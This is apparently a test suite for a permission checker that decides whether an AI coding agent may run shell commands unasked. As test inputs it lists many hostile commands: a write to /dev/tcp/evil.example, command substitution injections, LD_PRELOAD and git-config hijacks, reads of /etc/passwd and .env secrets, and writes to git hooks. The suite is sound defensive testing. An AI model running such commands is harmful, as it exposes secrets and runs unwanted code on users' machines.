// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell commands look like templates

import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { triesOf } from '../../../shared/testing/tries.ts'
import { judgeCommand, verdict } from './testing/judge.ts'

const lines = (text: string) =>
  text
    .trim()
    .split('\n')
    .map((line) => line.trim())

describe('commands that only read', () => {
  it.each(
    lines(String.raw`
      ls
      ls -la src
      ls src/*.ts
      cat package.json
      head -n 20 src/main.ts
      head -20 src/main.ts
      tail -n +5 src/main.ts
      wc -l src/main.ts
      grep -rn "TODO" src
      grep -n '/api/users' src/main.ts
      rg --json -i needle src
      rg -n needle | head -20
      find . -name "*.ts" -not -path "./node_modules/*"
      find src -type f -maxdepth 2 | wc -l
      sed -n '1,20p' src/main.ts
      sed -n -e 5p -e '/start/,/end/p' src/main.ts
      sed 's/a/b/g' src/main.ts
      sort names.txt | uniq -c | sort -rn | head
      cut -d: -f1 names.txt
      git status
      git status --porcelain -b
      git log --oneline -n 10 -- src
      git --no-pager diff HEAD~1 --stat
      git show HEAD:src/main.ts
      git branch
      git branch --list 'feature/*'
      git branch --merged main
      git rev-parse --abbrev-ref HEAD
      git ls-files | wc -l
      git blame -L 1,20 src/main.ts
      git remote -v
      git stash list
      git config --get user.name
      git config --list
      git config -l --show-origin
      pip list
      docker ps
      git tag -l
      git describe --tags
      git grep -n needle -- src
      git -C /repo status
      node --version
      echo "hello $USER"
      echo $(ls src)
      printf '%s\n' hello
      pwd; whoami; date +%Y
      cd src && ls
      cd /repo && git log -3
      cat src/main.ts 2>/dev/null | head -5
      ls 2>&1
      test -f package.json && cat package.json
      [ -d src ] && ls src
      ls || echo none
      (cd src; ls)
      { ls; pwd; }
      jq .scripts package.json
      time ls
      timeout 5 ls
      command -v node
      LC_ALL=C sort names.txt
      cat <<'EOF'
      # just a comment`),
  )('runs %s without permission', async (command) => {
    const whole = command.includes("<<'EOF'") ? `${command}\n$(rm -rf x)\nEOF` : command
    if (command.startsWith('#')) return expect(await verdict(judgeCommand(`${command}\nls`))).toBe('allow')
    expect(await judgeCommand(whole)).toMatchObject({ kind: 'allow' })
  })
})

describe('commands that change files, run programs or use the network', () => {
  it.each(
    lines(String.raw`
      npm test
      rm -rf src
      ./ls
      /tmp/cat package.json
      ls; rm x
      ls && rm x
      ls || rm x
      ls | sh
      ls & rm x
      ls > out.txt
      ls >> out.txt
      ls >| out.txt
      ls &> out.txt
      ls <> out.txt
      ls >&out.txt
      { ls; } > out.txt
      echo $(rm x)
      echo "$(rm x)"
      echo ${'`rm x`'}
      echo "${'`rm x`'}"
      cat <(rm x)
      ls $(echo -R; rm x)
      rg --pre ./evil needle
      rg --pre=./evil needle
      rg --hostname-bin ./evil needle
      rg -z needle
      rg needle *.ts
      rg $FLAGS needle
      rg "$FLAGS" needle
      find . -exec rm {} ;
      find . -exec rm {} \;
      find . -execdir rm {} +
      find . -ok rm {} \;
      find . -delete
      find . -fprint out
      find . -fprintf out x
      find . -fls out
      find . -name *
      find $X
      sed -i s/a/b/ x
      sed -n '1w out' x
      sed 's/a/b/w out' x
      sed 's/a/b/e' x
      sed '1e rm x' x
      sed -n 'w out' x
      sed 's/[/]/;s/w evil/x/' x
      sed -f script x
      sed --in-place=.bak s/a/b/ x
      sort -o out x
      sort --output=out x
      sort --outp=out x
      sort -uo out x
      sort --compress-program=./evil x
      sort *
      uniq in out
      tee out
      date -s 12:00
      date 01011200
      env FOO=1 ls
      env -S 'rm x'
      env rm x
      FOO=1 ls
      PATH=/tmp:$PATH ls
      GIT_EXTERNAL_DIFF=./evil git diff
      LD_PRELOAD=./evil.so ls
      PATH=.; ls
      export PATH=.
      xargs rm
      xargs -I{} rm {}
      find . -print0 | xargs -0 rm
      xargs sort
      nohup ls
      git -c core.pager=./evil log
      git -c alias.x='!rm x' x
      git --exec-path=. status
      git --git-dir=evil status
      git diff --output=out
      git diff --outp=out
      git diff --ext-diff
      git diff --no-index a b
      git log --textconv
      git log --show-signature
      git log --format='%h %G?'
      git log '--pretty=%GK'
      git grep -O./evil needle
      git grep -nO needle
      git grep --open-files-in-pager=./evil needle
      git branch new
      git branch -D main
      git branch -m other
      git tag v1
      git stash
      git stash pop
      git config user.name evil
      git config --get-regexp .
      git config --list user.name
      git config --get credential.helper
      git config --get remote.origin.url
      git config --get http.https://a.example/.extraheader
      git config --list --get user.name
      docker ps -f x
      git config --global --get x --edit
      git remote add evil url
      git remote show origin
      git reflog expire --all
      git symbolic-ref HEAD refs/heads/x
      git worktree add ../x
      git commit -m x
      git push
      git status $(rm x)
      git log $REF
      git diff *.ts
      git diff -- --output=x
      printf -v 'a[$(rm x)]' y
      printf '%n' 'a[$(rm x)]'
      test -v 'a[$(rm x)]'
      [ -v 'a[$(rm x)]' ]
      [ $X -eq 1 ]
      jq 'import "x" as $d; .' a.json
      command rm x
      command -p rm x
      eval ls
      exec ls
      source x
      . x
      builtin cd x
      time rm x
      timeout 5 rm x
      ! rm x
      ls \
      $CMD
      "$CMD" x
      tr*  x
      echo x > /dev/tcp/evil.example/80
      python -c 1
      node x.js
      yarn --version
      hostname evil
      file -C -m x
      tree -o out
      ls\${'\n'}rm x
    `),
  )('asks about %s', async (command) => {
    expect(await verdict(judgeCommand(command))).toBe('ask')
  })

  it('asks about a second command after a line break', async () => {
    expect(await verdict(judgeCommand('ls\nrm x'))).toBe('ask')
    expect(await verdict(judgeCommand('# ls\nrm x'))).toBe('ask')
    expect(await verdict(judgeCommand('cat <<EOF\n$(rm x)\nEOF'))).toBe('ask')
    expect(await verdict(judgeCommand("cat <<'EOF'\nx\nEOF\nrm x"))).toBe('ask')
  })

  it.each([
    'for f; do ls; done',
    'for ((;;)); do ls; done',
    'select f in a; do ls; done',
    'coproc ls',
    'function f { ls; }',
    'ls() { rm x; }; ls',
    'a=(1 2)',
    'echo ${x@P}',
    'echo ${x:-$(rm x)}',
    'echo $((a[$(rm x)]))',
    "echo $'\\x41'",
    '[[ a =~ (b) ]]',
    'case x in @(a)) ls;; esac',
    'case x in a) ls;& b) rm x;; esac',
    'if ls; then ls; done',
    'while ls; do ls',
    'echo "$\\\n(rm x)"',
    'ca\\\nt x',
    'echo "unclosed',
    "echo 'unclosed",
    'echo $(ls',
    'cat <<EOF',
    'ls &&',
    '&& ls',
    'ls ;; ls',
    'ls \u00a0x',
    'ls\rrm x',
    'ls \u202e x',
    'echo \u0000',
    `echo ${'$('.repeat(200)}ls${')'.repeat(200)}`,
    `echo ${'('.repeat(5000)}`,
    'ls @(a|b)',
    "ls *(e:'rm x':)",
  ])('asks about %j, which the parser refuses', async (command) => {
    expect(await judgeCommand(command)).toMatchObject({
      kind: 'ask',
      alwaysRule: null,
      because: expect.stringMatching(/^Troupe can't check this command \(.+\)\.$/),
    })
  })

  it('asks about more than fifty parts, even if each part is harmless', async () => {
    expect(await verdict(judgeCommand(Array(50).fill('ls').join(';')))).toBe('allow')
    expect(await judgeCommand(Array(51).fill('ls').join(';'))).toMatchObject({
      kind: 'ask',
      alwaysRule: null,
    })
  })
})

it('handles adversarial commands quickly', async () => {
  const long = 29_000
  const commands = [
    `sed -n '${'/a'.repeat(long / 2)}'`,
    `sed -n '${' '.repeat(long)}x'`,
    `ls ${'{'.repeat(long)}`,
    `ls ${'a '.repeat(long / 2)}`,
    `ls ${'>a '.repeat(long / 3)}`,
    `cat ${'../'.repeat(long / 3)}`,
    '$('.repeat(long / 2),
    '`'.repeat(long),
    'cat <<E\n'.repeat(long / 8),
    'ls;'.repeat(long / 3),
  ]
  // A quadratic check would take minutes and exceed the time limit.
  for (const command of commands) expect(await verdict(judgeCommand(command))).not.toBe('deny')
  expect(await judgeCommand(`ls ${'a '.repeat(600)}`)).toMatchObject({ kind: 'ask', alwaysRule: null })
})

describe('files that a command reads', () => {
  it.each(
    lines(`
      cat /etc/passwd
      cat ../secret
      head -5 /repo-evil/x
      cat out/passwd
      ls out/
      grep root out/passwd
      cat < /etc/passwd
      ls /etc
      ls ..
      find / -name x
      find .. -name x
      cat src/../../x
      cat deep/link/../../x
      rg needle /etc
      wc -l /etc/passwd
      git diff /etc/passwd /dev/null
      git diff ../../x
      diff package.json /etc/passwd
      cd .. && ls
      cd /tmp; cat x
      cd out && cat passwd
      cd src; cat ../../x
      cd src && ls; cat ../x
      cd src && ls || cat ../x
      true || cd src && cat ../x
      ls | cd src && cat ../x
      (cd src) && cat ../x
      cd src & cat ../x
      cd src || cd /tmp; ls
      cat ~/.bashrc
      ls ~
      cat $FILE
      cat "$FILE"
      cat {.env,x}
      cat $(find . -name x)
      find . -name x | xargs cat
      cd && ls
      cd - && ls
      cd $X && ls
      git -C / status
      stat /etc/passwd
      test -f /etc/passwd
      sed -n 1p /etc/passwd
      jq . /etc/x.json`),
  )('asks about %s', async (command) => {
    expect(await verdict(judgeCommand(command))).toBe('ask')
  })

  it.each(
    lines(`
      cat .env
      cat ./config/.env.local
      head -1 keys/server.pem
      grep KEY .env
      cat notes.txt
      cat < .env
      git show HEAD:.env
      git diff .env`),
  )('asks about %s, a secret, even if a rule allows the command', async (command) => {
    expect(await judgeCommand(command, { rules: ['Bash(cat:*)', 'Bash'] })).toMatchObject({
      kind: 'ask',
      alwaysRule: null,
      because: expect.stringContaining('secret'),
    })
  })

  it('reads a secret that a rule names, and shows the size of a secret without permission', async () => {
    expect(await verdict(judgeCommand('cat .env', { rules: ['Read(.env)'] }))).toBe('allow')
    expect(await verdict(judgeCommand('ls -l .env'))).toBe('allow')
    expect(await verdict(judgeCommand('cat .env.example'))).toBe('allow')
  })

  it("resolves paths from the shell's folder", async () => {
    expect(await verdict(judgeCommand('cat ../package.json', { agent: { cwd: '/repo/src' } }))).toBe('allow')
    expect(await verdict(judgeCommand('cat package.json', { agent: { cwd: '/tmp' } }))).toBe('ask')
    expect(await verdict(judgeCommand('ls', { agent: { cwd: '/tmp' } }))).toBe('ask')
    expect(await verdict(judgeCommand('ls', { agent: { cwd: '/repo-evil' } }))).toBe('ask')
  })

  it('recognizes the folder by its real path', async () => {
    const agent = { root: '/linked-repo' }
    expect(await verdict(judgeCommand('cat package.json', { agent }))).toBe('allow')
    expect(await verdict(judgeCommand('cat /repo/package.json && git status', { agent }))).toBe('allow')
    expect(await verdict(judgeCommand('cat /repo/../x', { agent }))).toBe('ask')
  })
})

describe('modes', () => {
  it('asks in default and acceptEdits with the exact command and a rule for it', async () => {
    for (const mode of ['default', 'acceptEdits'] as const)
      expect(await judgeCommand('npm test', { mode })).toEqual({
        kind: 'ask',
        subject: { kind: 'command', action: 'run a command', text: 'npm test', folder: '/repo' },
        because: 'npm can change files or run code.',
        alwaysRule: 'Bash(npm test)',
        offers: [{ rule: 'Bash(npm test)' }, expect.objectContaining({ rule: 'Bash(npm test:*)' })],
        remedy: 'The rule Bash(npm test) would allow this; only the user can add it.',
      })
  })

  it('makes hidden characters visible', async () => {
    const decision = await judgeCommand('npm test \u202egnp.exe')
    expect(decision).toMatchObject({ kind: 'ask', subject: { text: 'npm test ⟨RLO⟩gnp.exe' } })
  })

  it('only reads in plan mode, with any rules', async () => {
    const situation = { mode: 'plan', rules: ['Bash'] } as const
    expect(await judgeCommand('npm test', situation)).toMatchObject({
      kind: 'deny',
      because: expect.stringContaining('Plan mode is read-only'),
    })
    expect(await verdict(judgeCommand('git log', situation))).toBe('allow')
    expect(await verdict(judgeCommand('ls > x', situation))).toBe('deny')
    expect(await verdict(judgeCommand('f() { ls; }; f', situation))).toBe('deny')
  })

  it.each(['default', 'acceptEdits', 'plan', 'dontAsk', 'bypassPermissions'] as const)(
    'limits a read-only agent to reading in %s',
    async (mode) => {
      const situation = { mode, agent: { readOnly: true }, rules: ['Bash', 'Bash(npm test)'] }
      expect(await judgeCommand('npm test', situation)).toMatchObject({
        kind: 'deny',
        because: expect.stringContaining('read-only'),
      })
      expect(await verdict(judgeCommand('echo x > y', situation))).toBe('deny')
      expect(await verdict(judgeCommand('echo ${x@P}', situation))).toBe('deny')
      expect(await verdict(judgeCommand('git log -3', situation))).toBe('allow')
    },
  )

  it('names the rules that would allow the command in dontAsk', async () => {
    const because = async (command: string) => {
      const decision = await judgeCommand(command, { mode: 'dontAsk' })
      return decision.kind === 'deny' ? decision.because : decision.kind
    }
    expect(await because('npm test')).toContain('The rule Bash(npm test) would allow this')
    expect(await because('npm ci && npm test')).toContain(
      'The rules Bash(npm ci), Bash(npm test) would allow this',
    )
    expect(await because('cat .env')).toContain('The rule Read(./.env) would allow this')
    expect(await because('ls')).toBe('allow')
  })

  it.each([
    ['npm test 2>&1 | tail', ['Bash(npm test)']],
    ['npm test >/dev/null 2>&1 && cat < a', ['Bash(npm test)']],
    ['npm ci && npm test > out.txt', ['Bash(npm ci)', 'Bash(npm test)', 'Edit(./out.txt)']],
    ['npm test; cat .env', ['Bash(npm test)', 'Read(./.env)']],
    ['echo $(npm test)', ['Bash(npm test)']],
    ['CC=evil make', ['Bash(CC=evil make)']],
    ['git commit -m "a b" && npm test', ['Bash(git commit -m "a b" && npm test)']],
    ['f() { npm test; }; f', ['Bash(f() { npm test; }; f)']],
    ['cat .env | sh', ['Bash(sh)', 'Read(./.env)']],
  ])('of %s names rules that allow it', async (command, rules) => {
    for (const mode of ['default', 'acceptEdits', 'dontAsk'] as const) {
      const decision = await judgeCommand(command, { mode })
      const text = decision.kind === 'ask' ? decision.remedy : decision.because
      expect(text).toContain(`The ${rules.length > 1 ? 'rules' : 'rule'} `)
      for (const rule of rules) expect(text).toContain(rule)
      expect(await verdict(judgeCommand(command, { mode, rules }))).toBe('allow')
      for (const left of rules)
        expect(
          await verdict(judgeCommand(command, { mode, rules: rules.filter((rule) => rule !== left) })),
        ).not.toBe('allow')
    }
  })

  it.each(['echo x > .git/hooks/a', 'npm test && git config core.pager evil'])(
    'of %j names no rule, because none would do',
    async (command) => {
      expect(await judgeCommand(command)).toMatchObject({
        remedy: 'No rule allows this: the user decides each time.',
      })
    },
  )

  it('bypasses only in enabled folders, and never for protected files', async () => {
    const mode = 'bypassPermissions'
    expect(await verdict(judgeCommand('npm test', { mode }))).toBe('allow')
    expect(await verdict(judgeCommand('npm test', { mode, bypassAllowed: false }))).toBe('ask')
    expect(await verdict(judgeCommand('f() { npm test; }; f', { mode }))).toBe('allow')
    for (const command of [
      'echo x > .git/hooks/pre-commit',
      'cp evil .git/hooks/pre-commit',
      'cp evil hooks/pre-commit',
      'rm -rf .GIT',
      'tee .claude/settings.json',
      'dd of=.git/config',
      'git config core.hooksPath evil',
      'f() { echo x > .git/hooks/a; }; f',
    ])
      expect([command, await verdict(judgeCommand(command, { mode }))]).toEqual([command, 'ask'])
  })

  it('runs no command in an untrusted folder, and says how to trust the folder', async () => {
    for (const mode of ['default', 'bypassPermissions'] as const)
      expect(await judgeCommand('ls', { trusted: false, mode, rules: ['Bash'] })).toMatchObject({
        kind: 'deny',
        because: expect.stringContaining('--trust'),
      })
  })
})

describe('rules', () => {
  const allows = (command: string, ...rules: string[]) => verdict(judgeCommand(command, { rules }))

  it('allows exactly the command of a rule', async () => {
    expect(await allows('npm test', 'Bash(npm test)')).toBe('allow')
    expect(await allows('"npm"  test', 'Bash(npm test)')).toBe('allow')
    expect(await allows('npm test --x', 'Bash(npm test)')).toBe('ask')
    expect(await allows('npm', 'Bash(npm test)')).toBe('ask')
    expect(await allows('git commit -m "a  b"', 'Bash(git commit -m "a  b")')).toBe('allow')
  })

  it('allows a prefix up to the end of a word', async () => {
    for (const rule of ['Bash(npm run:*)', 'Bash(npm run *)']) {
      expect(await allows('npm run', rule)).toBe('allow')
      expect(await allows('npm run build --watch', rule)).toBe('allow')
      expect(await allows('npm runner', rule)).toBe('ask')
      expect(await allows('npm runx build', rule)).toBe('ask')
    }
    expect(await allows('npm run build', 'Bash(npm run build)', 'Bash(nope')).toBe('allow')
    expect(await allows('rm x', 'Bash(*)')).toBe('allow')
  })

  it('allows only the covered command', async () => {
    const rule = 'Bash(npm test:*)'
    for (const command of [
      'npm test; rm x',
      'npm test && rm x',
      'npm test | sh',
      'npm test\nrm x',
      'npm test & rm x',
      'npm test $(rm x)',
      'npm test `rm x`',
      'npm test "$(rm x)"',
      'npm test <(rm x)',
      'npm test > package.json',
      'npm test < /etc/passwd',
      'PATH=. npm test',
      'env PATH=. npm test',
      'LD_PRELOAD=x npm test',
      'npm $X',
      '$X test',
      'cat /etc/passwd && npm test',
    ])
      expect([command, await allows(command, rule)]).toEqual([command, 'ask'])
    for (const command of [
      'npm test -- a && ls',
      'CI=1 npm test',
      'timeout 60 npm test',
      'npm test 2>&1 | tail -5',
      'cd src && npm test',
      'npm test 2>/dev/null',
      'npm test > /dev/null 2>&1 || true',
      'npm test; echo done',
      'npm test; echo "exit: $?"',
      'cd src && npm test 2>&1 | grep -v skip | head -50',
    ])
      expect([command, await allows(command, rule)]).toEqual([command, 'allow'])
  })

  it('allows each part of a compound command by its own rule', async () => {
    expect(await allows('npm ci && npm test', 'Bash(npm ci)', 'Bash(npm test)')).toBe('allow')
    expect(await allows('npm test > out.txt', 'Bash(npm test)', 'Edit(out.txt)')).toBe('allow')
  })

  it('offers no rule that would match other commands', async () => {
    for (const command of ['npm test $(date)', 'rm $X', 'rm *', 'rm *.log', 'npm run:*', 'cat .env', 'FOO=1'])
      expect(await judgeCommand(command)).toMatchObject({ kind: 'ask', alwaysRule: null })
    const offered = await judgeCommand('npm run "a b" --x=(1')
    expect(offered).toMatchObject({ kind: 'ask', alwaysRule: null })
  })

  it('accepts the offered rule', async () => {
    for (const command of [
      'npm test',
      'git commit -m "it is (done)"',
      "grep -f x 'y'",
      'cat /etc/hosts',
      'make  -j4',
      'npm ci && npm test',
      'npm test > x',
    ]) {
      const first = await judgeCommand(command)
      if (first.kind !== 'ask' || first.alwaysRule === null)
        throw new Error(`nothing is offered for ${command}`)
      expect(await allows(command, first.alwaysRule)).toBe('allow')
    }
  })

  it("applies the rules of the agent's definition", async () => {
    const agent = { denied: ['Bash(rm:*)', 'Bash(npm publish)'] }
    const judge = (command: string, more: object) =>
      verdict(judgeCommand(command, { agent: { ...agent, ...more }, mode: 'bypassPermissions' }))
    for (const command of [
      'rm x',
      'ls && rm x',
      '/bin/rm x',
      'FOO=1 rm x',
      'env A=1 rm x',
      'ls | xargs rm',
      '\\rm x',
      'npm publish',
    ])
      expect([command, await judge(command, {})]).toEqual([command, 'deny'])
    expect(await judge('npm test', {})).toBe('allow')
    const only = { only: ['Bash(git diff:*)'] }
    expect(await judge('git diff --stat', only)).toBe('allow')
    expect(await judge('ls', only)).toBe('deny')
    expect(await judge('git diff; ls', only)).toBe('deny')
  })
})

// Thousands of commands take a while on a busy machine.
describe('any command', () => {
  const fragments = fc.constantFrom(
    ...[
      'ls',
      'cat',
      'a',
      '-la',
      ' ',
      '  ',
      '\n',
      ';',
      '&&',
      '||',
      '|',
      '&',
      '(',
      ')',
      '{',
      '}',
      '$(',
      '`',
      '"',
      "'",
    ],
    ...[
      '\\',
      '$',
      '$X',
      '${X}',
      '#',
      '>',
      '<',
      '<<EOF',
      '\nEOF\n',
      '2>&1',
      '/dev/null',
      '*',
      '~',
      '!',
      '=',
      'X=1',
      '--',
      '<(',
    ],
  )
  const soup = fc.array(fragments, { maxLength: 25 }).map((parts) => parts.join(''))

  it('asks for a redirect to a file whose name is a space, which no rule can name', async () => {
    expect(await verdict(judgeCommand('>\\  ', { rules: ['Edit(./ )', 'Edit(./)', 'Edit(//)'] }))).toBe('ask')
  })

  it('never throws, and allows, asks or denies', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(soup, fc.string({ unit: 'binary' })), async (command) => {
        expect(['allow', 'ask', 'deny']).toContain(await verdict(judgeCommand(command)))
      }),
      { numRuns: triesOf(2000) },
    )
  })

  it('never runs a wrapped change without permission', async () => {
    const wrappings: readonly ((inner: string) => string)[] = [
      (inner) => `ls; ${inner}`,
      (inner) => `${inner} && ls`,
      (inner) => `echo $(${inner})`,
      (inner) => `echo "a $(${inner}) b"`,
      (inner) => (inner.includes('`') ? `(${inner})` : `echo \`${inner}\``),
      (inner) => `ls | ${inner}`,
      (inner) => `(${inner})`,
      (inner) => `{ ${inner}; }`,
      (inner) => `time ${inner}`,
      (inner) => `ls\n${inner}\nls`,
      (inner) => `cat <<E\n$(${inner})\nE`,
      (inner) => `ls & ${inner}`,
      (inner) => `! ${inner}`,
      (inner) => `cat <(${inner})`,
      (inner) => `ls # x\n${inner}`,
    ]
    const changes = fc.constantFrom(
      'rm x',
      'npm test',
      'echo x > y',
      'sort -o y x',
      'X=1 ls',
      'cat /etc/passwd',
    )
    await fc.assert(
      fc.asyncProperty(
        changes,
        fc.array(fc.nat({ max: wrappings.length - 1 }), { maxLength: 4 }),
        async (change, layers) => {
          const command = layers.reduce<string>((inner, layer) => wrappings[layer]?.(inner) ?? inner, change)
          expect([command, await verdict(judgeCommand(command))]).toEqual([command, 'ask'])
        },
      ),
      { numRuns: triesOf(1000) },
    )
  })
})
